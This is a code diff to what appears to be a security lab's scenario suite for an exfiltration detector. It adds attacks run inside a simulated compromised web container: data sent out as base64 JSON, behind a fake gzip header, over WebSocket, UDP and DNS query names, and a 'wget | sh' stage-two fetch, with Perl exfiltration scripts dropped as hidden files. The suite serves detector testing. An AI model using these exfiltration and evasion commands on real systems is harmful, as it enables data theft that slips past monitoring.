@@ -8,6 +8,7 @@ or inside a known workload that starts behaving differently.
 
 from __future__ import annotations
 
+import base64
 import os
 import time
 from collections.abc import Callable
@@ -25,6 +26,11 @@ EXFIL = IMG + "my-exfil-container:latest"
 DB = IMG + "internal-db:latest"
 BATCH = IMG + "batch:latest"
 TAGS = [API, LOGS, BACKUP, EXFIL, DB, BATCH]
+# The compromised workload: a long-lived web application (busybox and perl,
+# no openssl, no curl) learned while benign; attacks run inside it by
+# `docker exec`, as an intruder with a shell in it would.
+WEBAPP = IMG + "webapp:latest"
+BARE_TAGS = [WEBAPP]
 
 ENC = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab"
 
@@ -38,12 +44,15 @@ def https_post(host: str, src: str, path: str = "/upload") -> str:
     )
 
 
-def http_post(host: str, port: int, src: str, path: str) -> str:
+def http_post(host: str, port: int, src: str, path: str, body_apart: bool = False) -> str:
     """POST a file over plain HTTP with nc (busybox wget --post-file stops
-    at the first NUL byte, so binary bodies need this)."""
+    at the first NUL byte, so binary bodies need this). body_apart: the
+    head goes out in its own packet before the body (as HTTP clients that
+    write headers and body separately do); otherwise they may share one."""
+    pause = "usleep 200000; " if body_apart else ""
     return (
         f"(printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
-        f"$(wc -c < {src}); cat {src}) | nc {host} {port} >/dev/null"
+        f"$(wc -c < {src}); {pause}cat {src}) | nc {host} {port} >/dev/null"
     )
 
 
@@ -86,6 +95,68 @@ def https_get_named(name: str) -> str:
 NAMED_API_CALL = https_get_named(SERVICE)
 
 
+# The web application's own code: a WebSocket chat client sending masked
+# text frames (RFC 6455: clients mask with a random key per frame).
+CHAT_PL = r"""
+use IO::Socket::INET;
+my ($host, $port, $n, $delay) = @ARGV;
+my $s = IO::Socket::INET->new(PeerAddr => "$host:$port", Proto => "tcp") or die "connect: $!";
+print $s "GET /chat HTTP/1.1\r\nHost: $host\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+  . "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
+open(my $t, "<", "/data/text.txt") or die; local $/; my $text = <$t>;
+for my $i (1 .. $n) {
+  my $m = substr($text, ($i * 97) % (length($text) - 200), 120);
+  my $k = pack("N", int(rand(4294967295)));
+  print $s pack("CC", 0x81, 0x80 | length($m)) . $k . ($m ^ substr($k x 31, 0, length($m)));
+  select(undef, undef, undef, $delay) if $delay > 0;
+}
+"""
+
+# Intruder scripts (written into the container, run with its perl).
+UDP_PL = r"""
+use IO::Socket::INET;
+my ($host, $port, $n) = @ARGV;
+my $s = IO::Socket::INET->new(PeerAddr => "$host:$port", Proto => "udp") or die "udp: $!";
+open(my $r, "<", "/dev/urandom") or die;
+for (1 .. $n) { read($r, my $b, 1200); $s->send($b); select(undef, undef, undef, 0.002); }
+"""
+DNS_PL = r"""
+use IO::Socket::INET;
+my ($host, $port, $n) = @ARGV;
+my $s = IO::Socket::INET->new(PeerAddr => "$host:$port", Proto => "udp") or die "udp: $!";
+open(my $r, "<", "/dev/urandom") or die;
+for my $i (1 .. $n) {
+  read($r, my $b, 28); my $l = unpack("H*", $b);
+  my $q = pack("nnnnnn", $i, 0x0100, 1, 0, 0, 0) . chr(length $l) . $l . chr(1) . "t"
+    . chr(9) . "exfil-lab" . chr(4) . "test" . chr(0) . pack("nn", 1, 1);
+  $s->send($q); select(undef, undef, undef, 0.05);
+}
+"""
+
+
+def put(path: str, text: str) -> str:
+    """Shell that writes `text` to `path` (no quoting to get wrong)."""
+    return f"echo {base64.b64encode(text.encode()).decode()} | base64 -d > {path}"
+
+
+WEBAPP_NOTE = (
+    """printf '{"user":"alice","note":"%s"}' "$(head -c 800 /data/text.txt | tr -dc 'a-zA-Z0-9 .,;:-')" > /tmp/n.json; """
+    + http_post(SINK_IP, 8080, "/tmp/n.json", "/api/notes")
+)
+WEBAPP_IMAGE = (
+    """{ printf '{"image":"'; head -c 16000 /dev/urandom | base64 | tr -d '\\n'; printf '"}'; } > /tmp/i.json; """
+    + http_post(SINK_IP, 8080, "/tmp/i.json", "/api/images")
+)
+# The backup client sends its head, then the body: a compressed body that
+# shares a packet with a head longer than the sample is never seen starting,
+# so it cannot be proven (README: false-positive sources).
+WEBAPP_BACKUP = "head -c 30000 /data/text.txt | gzip > /tmp/bk.gz; " + http_post(
+    SINK_IP, 8080, "/tmp/bk.gz", "/backup", body_apart=True
+)
+WEBAPP_CHAT = f"perl /app/chat.pl {SINK_IP} 9001 20 0"
+WEBAPP_JOB = f"{WEBAPP_NOTE}; {WEBAPP_IMAGE}; {WEBAPP_BACKUP}; {WEBAPP_CHAT}"
+
+
 def loop(body: str, every: float, times: int) -> str:
     return f"i=0; while [ $i -lt {times} ]; do {body}; i=$((i+1)); sleep {every}; done"
 
@@ -107,6 +178,23 @@ class Ctx:
         self.containers.append(cid)
         return cid, ip
 
+    def webapp(self) -> str:
+        """The long-lived web application (started once, kept from the
+        learn phase into the detect phase)."""
+        cid = self.lab.kept.get(WEBAPP)
+        if cid is None:
+            script = f"mkdir -p /app; {put('/app/chat.pl', CHAT_PL)}; while true; do {WEBAPP_JOB}; sleep 1; done"
+            cid, _ip = self.lab.start(WEBAPP, script, keep=True)
+            self.lab.kept[WEBAPP] = cid
+        return cid
+
+    def exec(self, script: str, timeout: float = 120) -> None:
+        """Run `script` inside the running web application (docker exec)."""
+        cid = self.webapp()
+        if cid not in self.containers:
+            self.containers.append(cid)
+        self.lab.exec(cid, script, timeout)
+
 
 @dataclass(frozen=True)
 class Scenario:
@@ -116,6 +204,7 @@ class Scenario:
     description: str
     run: Callable[[Ctx], None]
     blind_spot: bool = False  # undetected is the documented expectation
+    compromised: bool = False  # runs by docker exec inside the learned web application
 
     @property
     def benign(self) -> bool:
@@ -129,6 +218,7 @@ def learn_phase(ctx: Ctx, seconds: float) -> None:
     """Benign workloads doing their normal job while the baseline learns."""
     n = max(3, int(seconds))
     ctx.lab.net.set_names({SERVICE: [SINK_IP]})
+    ctx.webapp()
     ctx.start(API, loop(f"{API_CALL}; {NAMED_API_CALL}", 1, n))
     ctx.start(LOGS, loop(f"{LOG_TEXT}; {LOG_GZIP}", 1, n))
     end = time.monotonic() + seconds
@@ -136,7 +226,7 @@ def learn_phase(ctx: Ctx, seconds: float) -> None:
         ctx.run(BACKUP, BACKUP_RUN)
         time.sleep(1)
     for c in list(ctx.containers):
-        ctx.lab.wait(c, timeout=seconds + 30)
+        ctx.lab.wait(c, timeout=seconds + 30)  # the web application is kept: not in ctx.containers
 
 
 # --- attacks ------------------------------------------------------------------------
@@ -242,6 +332,109 @@ def _b_moved(ctx: Ctx) -> None:
         ctx.lab.net.set_names({SERVICE: [SINK_IP]})
 
 
+# --- compromised workload: inside the learned web application -----------------------
+# No encryption tool in the container: the intruder brings data already
+# encrypted (random bytes stand for ciphertext) and shapes it to evade.
+
+
+def _cw_b_gzip(ctx: Ctx) -> None:
+    ctx.exec(
+        "i=0; while [ $i -lt 30 ]; do cat /data/text.txt; i=$((i+1)); done | gzip > /tmp/big.gz; "
+        + http_post(SINK_IP, 8080, "/tmp/big.gz", "/backup", body_apart=True)
+    )
+
+
+def _cw_b_ws(ctx: Ctx) -> None:
+    ctx.exec(f"perl /app/chat.pl {SINK_IP} 9001 3000 0")
+
+
+def _cw_b_images(ctx: Ctx) -> None:
+    ctx.exec(loop(WEBAPP_IMAGE, 0.5, 3))
+
+
+def _cw_encoded(ctx: Ctx) -> None:
+    ctx.exec(
+        """{ printf '{"backup":"'; head -c 400000 /dev/urandom | base64 | tr -d '\\n'; printf '"}'; } > /tmp/x.json; """
+        + http_post(SECOND_IP, 80, "/tmp/x.json", "/api/v2/import")
+    )
+
+
+def _cw_fake_gzip(ctx: Ctx) -> None:
+    ctx.exec(
+        f"{{ printf '\\037\\213\\010\\000\\000\\000\\000\\000\\000\\003'; head -c 600000 /dev/urandom; }} | nc {SECOND_IP} 9000"
+    )
+
+
+def _cw_upgrade(ctx: Ctx) -> None:
+    ctx.exec(
+        "{ printf 'GET /chat HTTP/1.1\\r\\nHost: app\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n'; "
+        f"sleep 1; head -c 600000 /dev/urandom; }} | nc {SECOND_IP} 9001"
+    )
+
+
+def _cw_udp(ctx: Ctx) -> None:
+    ctx.exec(f"{put('/tmp/.u.pl', UDP_PL)}; perl /tmp/.u.pl {SECOND_IP} 5000 600")
+
+
+def _cw_pipe(ctx: Ctx) -> None:
+    ctx.exec(f"wget -q -O- http://{SINK_IP}/stage2 | sh")
+
+
+def _cw_dns(ctx: Ctx) -> None:
+    ctx.exec(f"{put('/tmp/.d.pl', DNS_PL)}; perl /tmp/.d.pl {SINK_IP} 5353 40")
+
+
+COMPROMISED: tuple[Scenario, ...] = tuple(
+    Scenario(name, attack, expect, description, fn, compromised=True)
+    for name, attack, expect, description, fn in (
+        ("cw-benign-gzip-backup", "benign", (), "the web app POSTs a 360 KB real gzip backup, as learned", _cw_b_gzip),
+        (
+            "cw-benign-websocket-text",
+            "benign",
+            (),
+            "the web app's WebSocket chat: 3000 masked text frames (380 KB) to its learned peer",
+            _cw_b_ws,
+        ),
+        ("cw-benign-base64-images", "benign", (), "the web app uploads base64 images, as learned", _cw_b_images),
+        (
+            "cw-encoded-json",
+            "T1048.001",
+            ("SL-EXF-003",),
+            "ciphertext base64-encoded into a JSON string, POSTed over plain HTTP to a new host",
+            _cw_encoded,
+        ),
+        (
+            "cw-fake-gzip-header",
+            "T1048.001",
+            ("SL-EXF-002",),
+            "a gzip header in its own packet, then ciphertext, over raw TCP",
+            _cw_fake_gzip,
+        ),
+        (
+            "cw-websocket-upgrade",
+            "T1048.001",
+            ("SL-EXF-003",),
+            "an HTTP request with Upgrade: websocket, then raw ciphertext on the same connection",
+            _cw_upgrade,
+        ),
+        ("cw-udp", "T1048.001", ("SL-EXF-002",), "ciphertext in UDP datagrams to port 5000 (perl)", _cw_udp),
+        (
+            "cw-pipe-stage-two",
+            "T1104",
+            ("SL-C2-001",),
+            "`wget -O- URL | sh`: a script piped into the shell, which beacons to a second host",
+            _cw_pipe,
+        ),
+        (
+            "cw-dns-other-port",
+            "T1048.001",
+            ("SL-EXF-003",),
+            "hex-encoded ciphertext in DNS query names, sent to port 5353 (perl)",
+            _cw_dns,
+        ),
+    )
+)
+
 SCENARIOS: tuple[Scenario, ...] = (
     Scenario(
         "seed-openssl-https",
@@ -322,6 +515,7 @@ SCENARIOS: tuple[Scenario, ...] = (
         f"the API client's partner service ({SERVICE}) now resolves to another address block",
         _b_moved,
     ),
+    *COMPROMISED,
 )
 
 BY_NAME = {s.name: s for s in SCENARIOS}
